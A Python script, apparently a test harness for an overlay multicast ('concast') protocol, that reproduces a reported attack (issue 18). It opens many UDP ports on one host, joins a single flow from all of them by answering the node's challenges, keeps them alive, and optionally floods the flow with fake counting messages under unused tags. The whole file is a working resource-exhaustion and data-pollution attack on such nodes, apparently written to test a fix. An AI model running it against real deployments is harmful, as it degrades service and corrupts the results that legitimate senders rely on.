#!/usr/bin/python3
# SPDX-License-Identifier: MIT
"""A host that joins one concast flow from many UDP ports (issue 18's attack).

Usage: concast_ports.py NODE RECEIVER HOST GROUP APP PORTS SECONDS [FLOOD]

Overlay mode: for each of PORTS ports of HOST (an address of this host's:
it receives what comes back) it sends an RMS for the flow (GROUP,
RECEIVER, APP) to the node NODE (ADDR:PORT), answers the CHALLENGE that
comes back with its cookie, and then sends a KEEPALIVE from every port
every 0.4 s for SECONDS. With FLOOD, its first port that was taken into
the flow also sends FLOOD counting messages (tag, count 1000) for new tags
every 50 ms, tags no real sender uses. Prints how many ports were
challenged, taken into the flow (MS) and refused (ERROR), and the flood's
messages sent.
"""
import os
import select
import socket
import struct
import sys
import time


def addr(text):
    host, port = text.rsplit(':', 1)
    return bytes(10) + b'\xff\xff' + socket.inet_aton(host), int(port)


def option(kind, text):
    ip, port = addr(text)
    return struct.pack('>HHHH', kind, 6, 6, port) + ip


def anep(type_id, src, dst, body):
    opts = option(1, src) + option(2, dst) + struct.pack('>HHB3x', 0x101, 2, 9)
    return struct.pack('>BBHHH', 1, 0, type_id, (8 + len(opts)) // 4, 8 + len(opts) + len(body)) + opts + body


def main():
    node, receiver, host, group = sys.argv[1:5]
    app, n, secs = int(sys.argv[5]), int(sys.argv[6]), float(sys.argv[7])
    flood = int(sys.argv[8]) if len(sys.argv) > 8 else 0
    rip, rport = addr(receiver)
    nhost, nport = node.rsplit(':', 1)
    flow = bytes(10) + b'\xff\xff' + socket.inet_aton(group) + rip + struct.pack('>HHI', rport, 0, app)
    socks = {}
    for p in range(40000, 40000 + n):
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.bind((host, p))
        socks[p] = s
    by_fd = {s.fileno(): p for p, s in socks.items()}
    nonce = {p: os.urandom(8) for p in socks}
    cookie = {p: bytes(8) for p in socks}
    got = {'challenge': set(), 'ms': set(), 'error': set()}

    def send_csp(kind, port):
        body = struct.pack('>BBH', kind, 0, 0) + flow + nonce[port] + cookie[port]
        socks[port].sendto(anep(0x4106, f'{host}:{port}', receiver, body), (nhost, int(nport)))

    def answers(until):
        while True:
            left = until - time.monotonic()
            ready = select.select(list(socks.values()), [], [], max(left, 0))[0] if left > 0 else []
            if not ready:
                return
            for s in ready:
                port = by_fd[s.fileno()]
                pkt = s.recv(4096)
                if len(pkt) < 8 or struct.unpack('>H', pkt[2:4])[0] != 0x4106:
                    continue
                body = pkt[struct.unpack('>H', pkt[4:6])[0] * 4:]
                if len(body) < 52 or body[44:52] != nonce[port]:
                    continue
                if body[0] == 5:
                    got['challenge'].add(port)
                    cookie[port] = body[52:60]
                    send_csp(1, port)  # the RMS again, with the cookie
                elif body[0] == 2:
                    got['ms'].add(port)
                elif body[0] == 4:
                    got['error'].add(port)

    for p in socks:
        send_csp(1, p)
    end = time.monotonic() + secs
    next_tag, flooded, next_ka = 1 << 40, 0, 0.0
    while time.monotonic() < end:
        answers(min(end, time.monotonic() + 0.05))
        if time.monotonic() >= next_ka:
            next_ka = time.monotonic() + 0.4
            for p in socks:
                if p not in got['error']:
                    send_csp(3, p)
        if flood and got['ms']:
            p = min(got['ms'])
            for _ in range(flood):
                msg = struct.pack('>QI', next_tag, 1000)
                socks[p].sendto(anep(0x4105, f'{host}:{p}', receiver, flow + msg), (nhost, int(nport)))
                next_tag += 1
                flooded += 1
    print(len(got['challenge']), len(got['ms']), len(got['error']), flooded)


if __name__ == '__main__':
    main()
